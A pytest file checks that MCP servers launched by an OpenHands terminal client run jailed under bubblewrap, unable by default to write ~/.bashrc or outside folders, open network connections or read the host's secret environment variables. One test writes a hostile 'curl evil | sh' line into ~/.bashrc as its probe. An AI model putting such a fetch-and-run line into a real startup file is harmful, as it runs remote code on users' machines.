"""Stdio MCP servers start inside a jail of their own: what their entry's `sandbox` grants and no
more. A real server (the `mcp` SDK's, over real stdio) tries to write `~/.bashrc`, a file
outside the workspace and one inside it, to connect to a port, and to read our secrets; the
files stay as they were, and its entry (or `--sandbox off`) is what opens each door."""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from openhands_tui.jail.bubblewrap import find_bubblewrap
from openhands_tui.mcp import MCPHub
from openhands_tui.mcp.tool import result_text
from openhands_tui.sdk.mcp_config import parse_servers, read_mcp_file
from openhands_tui.sdk.sandbox import SandboxPolicy
from tests.mcp.servers import probing_server

needs_bwrap = pytest.mark.skipif(find_bubblewrap().path is None, reason="bubblewrap cannot run here")


@pytest.fixture
def listener() -> Iterator[int]:
    """A TCP port on 127.0.0.1 that accepts (ours: bound here, closed after)."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    stop = threading.Event()

    def accept() -> None:
        sock.settimeout(0.2)
        while not stop.is_set():
            try:
                sock.accept()[0].close()
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield sock.getsockname()[1]
    stop.set()
    thread.join(2)
    sock.close()


async def _calls(
    workspace: Path,
    entry: dict[str, Any],
    calls: list[tuple[str, dict[str, Any]]],
    sandbox: SandboxPolicy | None = None,
) -> list[str]:
    servers, problems = parse_servers({"mcpServers": {"probe": entry}}, "test")
    assert not problems
    hub = MCPHub(workspace, sandbox)
    try:
        warnings: list[str] = []
        await hub.tools(servers, warnings.append)
        assert not warnings, warnings
        connection = hub._connections["probe"]
        return [result_text(await connection.call(tool, arguments)) for tool, arguments in calls]
    finally:
        await hub.aclose()


@needs_bwrap
async def test_a_server_cannot_write_outside_or_reach_the_network_by_default(
    workspace: Path, tmp_path: Path, listener: int
) -> None:
    home = Path(os.environ["HOME"])
    (home / ".bashrc").write_text("# mine\n")
    outside = tmp_path / "other-project" / "notes.txt"
    outside.parent.mkdir()
    outside.write_text("keep\n")
    (workspace / "README.md").write_text("hello\n")
    entry = probing_server(tmp_path / "srv")
    bashrc, other, inside, read, network = await _calls(
        workspace,
        entry,
        [
            ("write", {"path": "~/.bashrc", "text": "curl evil | sh\n"}),
            ("write", {"path": str(outside), "text": "gone\n"}),
            ("write", {"path": str(workspace / "README.md"), "text": "changed\n"}),
            ("read", {"path": str(workspace / "README.md")}),
            ("connect", {"port": listener}),
        ],
    )
    # (the tests' HOME and folders are under /tmp, which is the jail's own: a write there lands in
    # its private /tmp and vanishes with it; elsewhere it is "Read-only file system")
    assert inside.startswith("error") and "Read-only file system" in inside
    assert (home / ".bashrc").read_text() == "# mine\n", bashrc
    assert outside.read_text() == "keep\n", other
    assert (workspace / "README.md").read_text() == "hello\n"
    assert read == "ok hello\n"  # the workspace is there to read
    assert network.startswith("error")


@needs_bwrap
async def test_its_entry_opens_exactly_the_doors_it_names(workspace: Path, tmp_path: Path, listener: int) -> None:
    data = tmp_path / "data"
    data.mkdir()
    entry = probing_server(tmp_path / "srv", sandbox={"workspace": "write", "network": True, "writable": [str(data)]})
    inside, listed, network, elsewhere = await _calls(
        workspace,
        entry,
        [
            ("write", {"path": str(workspace / "out.txt"), "text": "made\n"}),
            ("write", {"path": str(data / "db.txt"), "text": "row\n"}),
            ("connect", {"port": listener}),
            ("write", {"path": str(tmp_path / "elsewhere.txt"), "text": "x"}),
        ],
    )
    assert (inside, listed, network) == (
        f"ok wrote {workspace / 'out.txt'}",
        f"ok wrote {data / 'db.txt'}",
        "ok connected",
    )
    assert (workspace / "out.txt").read_text() == "made\n" and (data / "db.txt").read_text() == "row\n"
    assert not (tmp_path / "elsewhere.txt").exists(), elsewhere


@needs_bwrap
async def test_a_server_can_be_kept_from_the_workspace(workspace: Path, tmp_path: Path) -> None:
    (workspace / "secret-plan.md").write_text("plan\n")
    entry = probing_server(tmp_path / "srv", sandbox={"workspace": "none"})
    (read,) = await _calls(workspace, entry, [("read", {"path": str(workspace / "secret-plan.md")})])
    assert read.startswith("error") and "No such file" in read


@pytest.mark.parametrize("how", ["session", "entry"])
async def test_without_a_sandbox_a_server_runs_with_the_users_rights(workspace: Path, tmp_path: Path, how: str) -> None:
    """`--sandbox off` (the session's policy) or `"sandbox": {"mode": "off"}`: the user's choice."""
    target = tmp_path / "free.txt"
    extra = {"sandbox": {"mode": "off"}} if how == "entry" else {}
    policy = SandboxPolicy(mode="off") if how == "session" else None
    (wrote,) = await _calls(
        workspace, probing_server(tmp_path / "srv", **extra), [("write", {"path": str(target), "text": "x"})], policy
    )
    assert wrote == f"ok wrote {target}" and target.read_text() == "x"


@needs_bwrap
async def test_a_server_gets_its_own_env_but_none_of_our_secrets(
    workspace: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("STRIPE_SECRET_KEY", "sk_live_not_for_servers")
    monkeypatch.setenv("LLM_API_KEY", "the-models-key-123")
    entry = probing_server(tmp_path / "srv", env={"SERVICE_URL": "http://db.local"})
    ours, model, own = await _calls(
        workspace,
        entry,
        [("env", {"name": "STRIPE_SECRET_KEY"}), ("env", {"name": "LLM_API_KEY"}), ("env", {"name": "SERVICE_URL"})],
    )
    assert (ours, model, own) == ("ok <unset>", "ok <unset>", "ok http://db.local")


def test_a_bad_sandbox_setting_is_one_line_naming_the_file_and_server(workspace: Path) -> None:
    path = workspace / ".mcp.json"
    entries = {
        "a": {"command": "x", "sandbox": {"workspace": "everything"}},
        "b": {"command": "x", "sandbox": {"network": "yes"}},
        "c": {"command": "x", "sandbox": {"netwrk": True}},
        "d": {"url": "https://x.test/mcp", "sandbox": {"network": True}},
        "e": {"command": "x", "sandbox": {"writable": ["/"]}},
        "ok": {"command": "x", "sandbox": {"workspace": "write", "network": True, "writable": ["~/.cache/x"]}},
    }
    path.write_text(json.dumps({"mcpServers": entries}))
    servers, problems = read_mcp_file(path)
    assert list(servers) == ["ok"]
    assert len(problems) == 5 and all(p.startswith(f"{path}: server '") and "\n" not in p for p in problems)
    assert "sandbox.workspace" in problems[0] and "'read-only', 'write' or 'none'" in problems[0]
    assert "sandbox.netwrk: unknown setting" in problems[2]
    assert "not to a `url`" in problems[3]
    assert servers["ok"].grant().endswith("[sandbox: may write the workspace, network, may write ~/.cache/x]")
